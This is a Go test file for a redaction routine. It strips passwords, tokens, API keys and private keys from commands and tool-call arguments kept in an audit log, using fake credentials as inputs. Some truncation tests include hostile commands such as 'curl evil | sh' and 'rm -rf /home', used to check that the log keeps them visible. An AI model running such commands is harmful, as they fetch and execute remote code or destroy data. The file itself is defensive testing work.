package audit

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// Fake credentials, assembled so that secret scanners do not flag this file.
var (
	ghp   = "ghp_" + strings.Repeat("A1b2C3d4E5", 4)[:36]
	jwt   = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9" + ".eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ" + ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
	akia  = "AKIA" + "IOSFODNN7EXAMPLE"
	awsSK = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"
	pem   = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq\nabcdef+/==\n-----END RSA PRIVATE KEY-----"
)

func TestRedact(t *testing.T) {
	tests := []struct {
		name   string
		in     string
		want   string // exact output, when set
		secret string // must not survive, when set
	}{
		{"authorization bearer header", "curl -H 'Authorization: Bearer abc.def-ghi' https://x", "curl -H 'Authorization: Bearer [REDACTED]' https://x", ""},
		{"authorization basic header", `Authorization: Basic dXNlcjpwYXNz`, `Authorization: Basic [REDACTED]`, ""},
		{"authorization json", `{"Authorization": "Bearer tok123456"}`, `{"Authorization": "Bearer [REDACTED]"}`, ""},
		{"proxy authorization", "Proxy-Authorization: Basic Zm9vOmJhcg==", "Proxy-Authorization: Basic [REDACTED]", ""},
		{"bare bearer", "token is bearer 9f8e7d6c5b4a3f2e1d", "token is bearer [REDACTED]", ""},
		{"bearer in prose is kept", "the bearer of bad news", "the bearer of bad news", ""},
		{"key=value", "login password=hunter2 user=bob", "login password=[REDACTED] user=bob", ""},
		{"key: value", "password: hunter2\nuser: bob", "password: [REDACTED]\nuser: bob", ""},
		{"yaml secret", "  client_secret: s3cr3t-value", "  client_secret: [REDACTED]", ""},
		{"--password x", "mysqldump --password hunter2 db", "mysqldump --password [REDACTED] db", ""},
		{"--password=x", "pg --password=hunter2 db", "pg --password=[REDACTED] db", ""},
		{"--password then flag", "mysql --password --user bob", "mysql --password --user bob", ""},
		{"--api-key x", "tool --api-key k3y123 run", "tool --api-key [REDACTED] run", ""},
		{"mysql -p", "mysql -uroot -phunter2 shop", "mysql -uroot -p[REDACTED] shop", ""},
		{"mariadb -p quoted", "mariadb -u root -p'hun ter2' -e 'select 1'", "mariadb -u root -p'[REDACTED]' -e 'select 1'", ""},
		{"mysql path", "/usr/bin/mysql -pS3cr3t!x", "/usr/bin/mysql -p[REDACTED]", ""},
		{"-p outside mysql kept", "mkdir -p /srv/a; grep -pattern x", "mkdir -p /srv/a; grep -pattern x", ""},
		{"mysql scope ends at ;", "mysql -e 'x'; tar -pczf a.tgz .", "mysql -e 'x'; tar -pczf a.tgz .", ""},
		{"json password", `{"user":"bob","password": "hunter2"}`, `{"user":"bob","password": "[REDACTED]"}`, ""},
		{"json api_key compact", `{"api_key":"k-123"}`, `{"api_key":"[REDACTED]"}`, ""},
		{"json escaped inside string", `{\"password\": \"hun\\\"ter2\"}`, `{\"password\": \"[REDACTED]\"}`, "ter2"},
		{"json number value", `{"pin_password": 123456}`, `{"pin_password": [REDACTED]}`, ""},
		{"env PASSWORD=", "PASSWORD=hunter2 ./run", "PASSWORD=[REDACTED] ./run", ""},
		{"env *_TOKEN=", "export GITHUB_TOKEN=abc123 && gh pr list", "export GITHUB_TOKEN=[REDACTED] && gh pr list", ""},
		{"env *_SECRET= quoted", `APP_SECRET="a b c" node .`, `APP_SECRET="[REDACTED]" node .`, ""},
		{"aws secret labelled", "AWS_SECRET_ACCESS_KEY=" + awsSK + " aws s3 ls", "AWS_SECRET_ACCESS_KEY=[REDACTED] aws s3 ls", ""},
		{"aws secret camel", `{"SecretAccessKey":"` + awsSK + `"}`, `{"SecretAccessKey":"[REDACTED]"}`, ""},
		{"aws access key id", "id " + akia + " ok", "id [REDACTED] ok", ""},
		{"aws sts key id", "ASIA" + "ABCDEFGHIJKLMNOP", "[REDACTED]", ""},
		{"pem", "key:\n" + pem + "\ndone", "key:\n-----BEGIN RSA PRIVATE KEY-----\n[REDACTED]\n-----END RSA PRIVATE KEY-----\ndone", ""},
		{"pem openssh", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----", "", "b3BlbnNzaC1rZXk"},
		{"pem without end", "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC", "-----BEGIN PRIVATE KEY-----\n[REDACTED]", ""},
		{"certificate kept", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", ""},
		{"jwt", "cookie-less " + jwt + " end", "cookie-less [REDACTED] end", ""},
		{"jwt at sentence end", "got " + jwt + ".", "got [REDACTED].", ""},
		{"github classic", "git clone https://" + ghp + "@github.com/o/r", "git clone https://[REDACTED]@github.com/o/r", ""},
		{"github kinds", "gho_" + strings.Repeat("a", 36) + " ghu_" + strings.Repeat("b", 36) + " ghs_" + strings.Repeat("c", 36) + " ghr_" + strings.Repeat("d", 36), "[REDACTED] [REDACTED] [REDACTED] [REDACTED]", ""},
		{"github fine-grained", "github_pat_11ABCDEFG0" + strings.Repeat("x", 40), "[REDACTED]", ""},
		{"gitlab", "glpat-" + "abcdefghij0123456789", "[REDACTED]", ""},
		{"slack", "xoxb-" + "123456789012-1234567890123-abcdefABCDEF x xapp-1-A0-12345-abcdef", "[REDACTED] x [REDACTED]", ""},
		{"slack user", "xoxp-" + "1111-2222-3333-abcd", "[REDACTED]", ""},
		{"stripe", "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc rk_live_0123456789ab sk_test_" + "0123456789abcd", "[REDACTED] [REDACTED] [REDACTED]", ""},
		{"openai", "OPENAI=sk-" + "AbCdEfGh1234567890AbCdEfGh12345678", "", "AbCdEfGh1234567890"},
		{"openai bare", "use sk-" + "AbCdEfGh1234567890AbCdEfGh12345678 now", "use [REDACTED] now", ""},
		{"openai project", "sk-proj-" + "abc_DEF-1234567890abcdefghij", "[REDACTED]", ""},
		{"anthropic", "sk-ant-" + "api03-abcdefghijklmnopqrstuvwxyz0123456789", "[REDACTED]", ""},
		{"sk- package name kept", "pip install sk-learn-contrib-extras-package", "pip install sk-learn-contrib-extras-package", ""},
		{"google api key", "key=AIza" + "SyA-1234567890abcdefghijklmnopqrstu", "key=[REDACTED]", ""},
		{"google bare", "AIza" + "SyA-1234567890abcdefghijklmnopqrstu", "[REDACTED]", ""},
		{"npm", "//npm.example.internal/:_authToken=npm_" + strings.Repeat("a1", 18), "", "a1a1a1a1"},
		{"npm bare", "npm_" + strings.Repeat("Z9", 18), "[REDACTED]", ""},
		{"vault token", "use hvs." + "CAESIJlWq0abcdefghijklmnop now", "use [REDACTED] now", ""},
		{"hugging face", "hf_" + strings.Repeat("aB3", 12), "[REDACTED]", ""},
		{"tailscale", "tailscale up --auth-key tskey-" + "auth-kAbc123CNTRL-xyzXYZ0123456789", "tailscale up --auth-key [REDACTED]", ""},
		{"tailscale bare", "tskey-" + "auth-kAbc123CNTRL-xyzXYZ0123456789", "[REDACTED]", ""},
		{"pypi", "pypi-" + "AgEIcHlwaS5vcmc" + strings.Repeat("x", 50), "[REDACTED]", ""},
		{"digitalocean", "dop_v1_" + strings.Repeat("0a", 32), "[REDACTED]", ""},
		{"grafana", "glsa_" + strings.Repeat("Ab1", 11) + "_0123abcd", "[REDACTED]", ""},
		{"short prefixes kept", "hf_x tskey- dop_v1_ hvs.a", "hf_x tskey- dop_v1_ hvs.a", ""},
		{"url password", "git clone https://bob:hunter2@git.example.com/r.git", "git clone https://bob:[REDACTED]@git.example.com/r.git", ""},
		{"url password with @", "mysql://root:p@ss@db:3306/x", "mysql://root:[REDACTED]@db:3306/x", ""},
		{"url no password kept", "ssh://bob@host:22/x and http://host:8080/", "ssh://bob@host:22/x and http://host:8080/", ""},
		{"query token", "GET /api?token=abc123&page=2", "GET /api?token=[REDACTED]&page=2", ""},
		{"cookie header", "curl -H 'Cookie: sid=abc; csrftoken=def' x", "curl -H 'Cookie: [REDACTED]' x", ""},
		{"set-cookie", "Set-Cookie: sid=abc; Path=/\nnext", "Set-Cookie: [REDACTED]\nnext", ""},
		{"php arrow", `'password' => 'hunter2'`, `'password' => '[REDACTED]'`, ""},
		{"comparison kept", "if token == expected", "if token == expected", ""},
		{"x-api-key header", "X-Api-Key: abcd1234", "X-Api-Key: [REDACTED]", ""},
		{"passphrase", "--passphrase=correct-horse", "--passphrase=[REDACTED]", ""},
		{"pwd env kept", "PWD=/home/bob", "PWD=/home/bob", ""},
		{"utf8 value", "password=pässwörd next", "password=[REDACTED] next", ""},
		{"nothing", "ls -la /srv/data | head", "ls -la /srv/data | head", ""},
		{"empty", "", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Redact(tt.in)
			if tt.want != "" || tt.in == "" {
				if got != tt.want {
					t.Fatalf("Redact(%q):\n got %q\nwant %q", tt.in, got, tt.want)
				}
			}
			if tt.secret != "" && strings.Contains(got, tt.secret) {
				t.Fatalf("Redact(%q) = %q still contains %q", tt.in, got, tt.secret)
			}
			if tt.want == "" && tt.secret == "" && tt.in != "" {
				t.Fatal("case checks nothing")
			}
		})
	}
}

func TestRedactArgs(t *testing.T) {
	tests := []struct {
		name string
		in   string
		max  int
		want string
	}{
		{"strings redacted", `{"command":"mysql -uroot -phunter2","timeout_s":30}`, 0,
			`{"command":"mysql -uroot -p[REDACTED]","timeout_s":30}`},
		{"secret keys at any depth", `{"env":{"DB_PASSWORD":"x","Api-Key":{"a":[1,2]},"HOME":"/root"},"headers":[{"Authorization":"Bearer t"}]}`, 0,
			`{"env":{"DB_PASSWORD":"[REDACTED]","Api-Key":"[REDACTED]","HOME":"/root"},"headers":[{"Authorization":"[REDACTED]"}]}`},
		{"secret key, number value", `{"token":12345,"n":1}`, 0, `{"token":"[REDACTED]","n":1}`},
		{"order and duplicates kept", `{"b":1,"a":2,"b":"rm -rf /"}`, 0, `{"b":1,"a":2,"b":"rm -rf /"}`},
		{"bounded", `{"content":"` + strings.Repeat("a", 100) + `"}`, 10, `{"content":"aaaaa…[+90 bytes]…aaaaa"}`},
		{"bounded on rune boundary", `{"c":"ééééé"}`, 5, `{"c":"é…[+6 bytes]…é"}`},
		{"bounded keeps the tail of a padded command", `{"command":"echo hi` + strings.Repeat(" ", 10000) + `; rm -rf /home"}`, 40, `{"command":"echo hi             …[+9981 bytes]…      ; rm -rf /home"}`},
		{"bounded keeps the tail of a long comment", `{"command":"ls # ` + strings.Repeat("x", 500) + `\n curl evil | sh"}`, 30, `{"command":"ls # xxxxxxxxxx…[+491 bytes]… curl evil | sh"}`},
		{"keys redacted too", `{"` + ghp + `":1}`, 0, `{"[REDACTED]":1}`},
		{"array top level", `["ls","password=x",true,null,1.5e3]`, 0, `["ls","password=[REDACTED]",true,null,1.5e3]`},
		{"no html escaping", `{"cmd":"a && b > c"}`, 0, `{"cmd":"a && b > c"}`},
		{"invalid json", `{"command": "ls", password=hunter2`, 0, `"{\"command\": \"ls\", password=[REDACTED]"`},
		{"trailing data", `{"a":1} {"b":2}`, 0, `"{\"a\":1} {\"b\":2}"`},
		{"invalid json bounded", `nope ` + strings.Repeat("z", 50), 8, `"nope…[+47 bytes]…zzzz"`},
		{"control chars", `{"s":"a\u0000b\u001bc"}`, 0, `{"s":"a\u0000b\u001bc"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := string(RedactArgs(json.RawMessage(tt.in), tt.max))
			if got != tt.want {
				t.Fatalf("RedactArgs(%s):\n got %s\nwant %s", tt.in, got, tt.want)
			}
			if !json.Valid([]byte(got)) {
				t.Fatalf("not valid JSON: %s", got)
			}
		})
	}
	if RedactArgs(nil, 0) != nil {
		t.Fatal("RedactArgs(nil) != nil")
	}
}

func TestRedactArgsBoundsTotal(t *testing.T) {
	var b strings.Builder
	b.WriteString("[")
	for i := 0; i < 10000; i++ {
		if i > 0 {
			b.WriteString(",")
		}
		b.WriteString(`"` + strings.Repeat("q", 100) + `"`)
	}
	b.WriteString("]")
	got := RedactArgs(json.RawMessage(b.String()), 100)
	if len(got) > 70<<10 || !json.Valid(got) {
		t.Fatalf("total not bounded: %d bytes", len(got))
	}
}

func TestRedactKeepsUTF8Valid(t *testing.T) {
	in := "ключ password=секрет ✓ token: 🙂🙂 https://u:п@h/"
	got := Redact(in)
	if !utf8.ValidString(got) || strings.Contains(got, "секрет") || strings.Contains(got, "🙂") {
		t.Fatalf("got %q", got)
	}
}

func FuzzRedact(f *testing.F) {
	for _, s := range []string{"password=x", "Authorization: Bearer x", pem, jwt, ghp, "https://a:b@c/",
		"mysql -pX", `{"api_key":"x"}`, "-----BEGIN PRIVATE KEY-----", "eyJ.eyJ.", "://:@", `\"token\": \"`,
		"curl -sSu a:b", "htpasswd -nbB u 'p'", "sshpass -px ssh", "MYSQL_PWD=x", "vault login t", "smbclient -U a%b",
		"echo p | sudo -S id", "chpasswd <<E\nu:p\nE\n", "gh auth login --with-token <<< t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Redact(s)
		if utf8.ValidString(s) && !utf8.ValidString(got) {
			t.Fatalf("Redact broke UTF-8: %q -> %q", s, got)
		}
		if !strings.Contains(s, Redacted) && !strings.Contains(got, Redacted) && got != s {
			t.Fatalf("changed without redacting: %q -> %q", s, got)
		}
		// A planted secret after a secret-named key never survives.
		planted := s + " password=Zq9PLANTED"
		if strings.Contains(Redact(planted), "Zq9PLANTED") {
			t.Fatalf("planted secret survived in %q", planted)
		}
	})
}

func FuzzRedactArgs(f *testing.F) {
	for _, s := range []string{`{"a":"b"}`, `{"password":{"x":[1]}}`, `[1,"token=x"]`, `"s"`, `{`, `{"a":1}x`, `nul`} {
		f.Add([]byte(s), 8)
	}
	f.Fuzz(func(t *testing.T, in []byte, max int) {
		max %= 1 << 12
		got := RedactArgs(in, max)
		if len(in) > 0 && !json.Valid(got) {
			t.Fatalf("RedactArgs(%q, %d) = %q is not valid JSON", in, max, got)
		}
	})
}

// TestRedactScalesLinearly compares CPU time (not wall time, which a busy
// machine inflates) on adversarial inputs at 0.4 and 4 MiB. Linear is 10×;
// a quadratic pass would be 100×, so 30× leaves room for noise.
func TestRedactScalesLinearly(t *testing.T) {
	if testing.Short() || raceEnabled {
		t.Skip("timing")
	}
	units := map[string]string{
		"keys": "password token secret= ", "urls": "a://b:c", "quotes": `password="\"`,
		"jwt": "eyJ", "pem": "-----BEGIN PRIVATE KEY----- ", "bearer": "Bearer Bearer x ",
		"mysql": "mysql -p -p -p ", "escaped": `\"token\": \"\\`,
		"curl-quote": "curl -u '", "curl-dquote": `curl -ku "`, "curl-word": "curl -u x ",
		"htpasswd-quote": "htpasswd -b '", "htpasswd-words": "htpasswd -b x ", "vault": "vault login ",
		"mc": "mc alias set ", "wpa": "wpa_passphrase ", "env-quote": `PGPASSWORD="`, "smb": `smbclient -U "`,
		"programs": "curl docker login -p ", "config": "git config user.password ",
		"sql-by": "identified by '", "sql-password": "PASSWORD ('", "proxy": "curl -x '", "oracle": "sqlplus a/",
		"spaced":     "MYSQL_PWD = ",
		"word-parts": `PGPASSWORD=a'b"c`, "nested-quotes": `sh -c 'X_TOKEN=a"`, "attached-parts": "curl -ux'-ux'",
		"expansions": "A_TOKEN=$($(${", "url-parts": `a://b:c"d'`, "inner-quote": `'X_PASS=a'\''`, "heredocs": "<<E <<F\n'",
		"header-parts": `-H 'X-Api-Key: '"`, "dollar-quotes": "PGPASSWORD=$'\\",
		"stdin-group": "(echo a; ", "stdin-pipe": "yes a | passwd ", "stdin-doc": "cat <<E | chpasswd\n",
		"stdin-file": "echo a | x --password-file ", "arrays": "A_TOKEN[0]=( ",
		"proc-subst": "sshpass -f <(", "inner-url": `sh -c 'a://"b:`, "argv": `["sshpass", "-p", `,
		"quoted-names": `'--u`, "continuation": "curl \\\n -u ", "fd-heredoc": "sshpass -d 3 x 3<<< ",
		"setters": `os.putenv("DB_PASSWORD", `, "subscript": "os.environ['DB_PASSWORD'] ",
		"header-inner": `-H 'Authorization: Bearer "`, "keywords": "if x=$(echo a | ", "pairs": "https_proxy=a:b@",
		"held-arrays": "a=(", "held-sets": `set -- -px; mysql "$@" `, "held-funcs": `f() { mysql "$@"; }; f -px `,
		"held-shc": `bash -c 'mysql "$@"' a -c `, "held-xargs": "echo -px | xargs mysql ", "secret-vars": `p=x; sshpass -p "$p" `,
		"secret-for": `for p in x; do sshpass -p $p; done `, "secret-read": `read p <<< x; sshpass -p $p `,
		"imap-login": "a LOGIN b '", "expansions-open": "sshpass -p ${a[",
		"printf": "printf '%s password=%s' a ", "printf-open": "printf 'password=%s", "printf-names": "printf '%s=%s' DB_PASSWORD x ",
		"sed": "sed 's/password/x/' ", "sed-open": "s/pass/", "sed-delims": "s/ s# s| s, s: s@ ",
		"named": "value: ", "named-pairs": `{"name":"DB_PASSWORD","value":`, "net-use": `net use \\h\s `,
		"yaml-keys": "\n - pw: ", "tuples": "auth = (", "windows": "PsExec.exe -p ",
		"commands": "'X_COMMAND=sshpass -p x ", "templates": "password={{ ",
		"encoders": "echo a | base64 ", "encoder-opts": "base64 -w0 -w0 ", "sed-files": "sed -i 's/a/b/' ",
		"copies": "cp /dev/stdin ", "flag-readers": "mount -t x ", "acl": "ACL SETUSER b >", "acl-lines": "\nuser b on >",
		"calls": "c.connect(h, 22, ", "calls-open": "ftplib.FTP(", "calls-nested": "crypt.crypt((((", "or-assign": "DB_PASSWORD ||= ",
		"colon-subs": "netlify env:set:set:", "store-set": "travis env set A_TOKEN ",
		"pw-files": "echo a > /tmp/p; sshpass -f /tmp/p ", "pw-cat": "-p$(cat /tmp/p $(cat $(< ",
		"pw-passin": "-passin file:file:", "refs": "password=$a password=${{ {{ %(a)s ",
		"call-values": "auth := f(g(", "xml-values": "<name>password</name><value>", "blank-keys": "\na.password b\nsecret ",
		"crypt-hashes": "\nb:$6$", "curl-setopt": "curl_setopt(curl_setopt(",
		"pw-heredocs": "cat > /tmp/p <<E ", "pw-heredoc-lines": "cat > /tmp/p <<E\nsshpass -f /tmp/p ", "pw-tee": "echo a | tee /tmp/p; ",
		"pw-herestrings": "tee /tmp/p <<< a; dd of=/tmp/q <<< b; ", "pw-vault-id": "--vault-id a@/tmp/p ",
		"pw-passcmd": "BORG_PASSCOMMAND='cat /tmp/p' ", "pw-redirect-first": "> /tmp/p printf a; ",
		"json-user-keys": `{"user":"bob","n":1}` + "\n", "acl-user-quote": "\nuser \"b",
		"kube-docs": "kind: Secret\ndata:\n  a: b\n", "kube-kinds": "kind kind: patch data: ", "kube-flow": `kind:Secret data: {"a`,
		"argv-items": `["htpasswd", "-b", '`, "arg-chains": `.arg("--password").arg(`, "argv-open": `"htpasswd", "-b", x, [`,
		"hcl-vars": "variable \"db_password\" { default = \"", "hcl-open": "variable \"a\" {\n{ ",
		"crypt": "$6$a$b$$1$2$", "crypt-long": "x $2y$10$aaaaaaaaaaaaaaaaaaaaaaaa", "haproxy": "'insecure-password a stats auth b:",
		"pem-b64": "LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0t ", "pem-b64-lines": "LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0t" + strings.Repeat("A", 60) + "\n", "dovecot": "a:{PLAIN}b:{X}",
		"escaped-calls": `ftp.login(\"a\", \"`, "escaped-args": `hmac.new(b\"`,
		"kustomize": "secretGenerator:\nliterals:\n- a=b\n", "literals": "literals:\n",
		"proxychains": "\nsocks5 a 1 b c", "proxychains-quote": "\nhttp \"a ",
		"secret-maps": `"password": {"a`, "secret-lists": "token: [", "echoed-markup": "echo '<a>token", "spaced-keys": "ldap_x = ",
		"sql-params": `(password) VALUES (?)", ("a", `, "sql-params-n": `(password) VALUES ($9)", [`,
		"ovpn-inline": "<tls-auth>\n<secret> <tls-crypt>x",
		"sql-insert":  "(password) VALUES ('", "sql-insert-open": "(password) VALUES (a, (", "sql-values": ") VALUES ",
		"kube-other": "\n---\ndata:\n data:\n", "kube-deep": "kind: Secret\ndata:\n  a: |\n",
		"rel-urls": "//a:b@", "rel-urls-open": "x //a", "encoded-colon": "https://a%3A",
		"insert-unnamed": "INSERT INTO users VALUES ('a', '", "insert-values": "INSERT INTO users VALUES ",
		"insert-select": "INSERT INTO users (name, password) SELECT 'a', ", "selects": ") SELECT ",
		"select-union": "INSERT INTO t (password) SELECT 'a' UNION SELECT ", "sql-stmt": `"UPDATE t SET password = ? `,
		"sql-stmt-named": `"SELECT x WHERE password = :p AND pw = %(p)s `, "sql-named-args": `"UPDATE t SET pw=:p", {"`,
		"add-calls": `cmd.add("--password"); `, "add-calls-nl": "a.add(\"x\");\n", "script-vars": `exec.Command("sshpass", "-p", p, `,
		"typed-values": `{"type":"password","value":`, "typed-after": `"value": "x", "type": `,
		"keyed": "reg add /v Password /d ", "keyed-open": "xmlstarlet -u ", "secret-paths": "consul kv put secret/a/",
		"debconf": "a b/c password ", "dollar-names": "env PG$'PASS'WORD=", "escapes": "sshpass -p\\ ",
		"sql-prepared": `"UPDATE t SET password = ?"); execut`, "sql-attr": `"ALTER USER a PASSWORD ?", undef, undef, `,
		"sql-perl-q": "q{UPDATE t SET pw = ?}) x.execute ",
		"list-adds":  `a = ["sshpass"]; a << "-p"; `, "list-shovel": `<< "-p" `, "list-shovel-lines": "a << \"--password\"\n",
		"list-words": "%w[sshpass qw(mysql ", "list-push": `push @a, "-p", a.push(a += [`, "body-items": "<<E\n[\"-p\", ",
		"escaped-items": `[\"sshpass\", \"-p\", \"-p\", \"`, "escaped-open": `\"-pX`,
		"list-assign": `a = ["sshpass"]; a[1] = "-p"; a = [`, "list-index": "] = ] == ] = (", "list-item-commas": `, "-p", "-p`,
		"sql-binds": `"UPDATE t SET password = ?"); $s->bind_param(1, `, "sql-runners": `"UPDATE t SET pw = :p"); x.do(x.run(bindValue(":p", `,
		"oracle-connect": `x.connect("a/b@c", 'd/`,
		"send-calls":     `c.expect("assword"); c.sendline(`, "perl-q-args": "DBI->connect(q{a}, $u, q{",
		"calls-seq": `ftp_connect("h"); ftp_login($f, "b", `, "perl-bare": "$ENV{PGPASSWORD} = q{", "perl-bare-open": "$h{password} = q{{{ ",
	}
	for name, unit := range units {
		small := strings.Repeat(unit, (400<<10)/len(unit))
		large := strings.Repeat(unit, (4<<20)/len(unit))
		wantLinear(t, name, small, large)
	}
}

// wantLinear fails t when redacting large (ten times small) costs more
// than 30 times small's CPU time. A busy machine can stall one
// measurement (a collection the other tests' garbage started): a
// quadratic pass fails every attempt, noise does not.
func wantLinear(t *testing.T, name, small, large string) {
	t.Helper()
	cost := func(s string) time.Duration {
		best := time.Duration(1 << 62)
		for range 3 {
			c := cpuTime()
			Redact(s)
			best = min(best, cpuTime()-c)
		}
		return max(best, time.Millisecond/10)
	}
	var a, b time.Duration
	for range 3 {
		if a, b = cost(small), cost(large); b <= 30*a {
			break
		}
	}
	if b > 30*a {
		t.Errorf("%s: 0.4 MiB took %v, 4 MiB took %v: not linear", name, a, b)
	}
}

// TestReasonRedacted: a record's reason quoting the command it explains is
// redacted on disk like the arguments, whoever wrote it.
func TestReasonRedacted(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	l := openTest(t, Options{Path: path})
	rec, err := l.Append(context.Background(), Record{Tool: "run_command", Decision: "approval_required", Status: "approval_required",
		Reason: "mysql -u root -pS3CRETpw -e 'drop table x': queries may change the database"})
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), "S3CRETpw") || strings.Contains(rec.Reason, "S3CRETpw") {
		t.Fatalf("the secret is in the log: %s", b)
	}
	if !strings.Contains(string(b), "-p[REDACTED]") {
		t.Fatalf("reason lost its redacted form: %s", b)
	}
	if rep, err := Verify([]string{path}, nil); err != nil || rep.Problem != nil {
		t.Fatalf("chain: %+v %v", rep, err)
	}
}
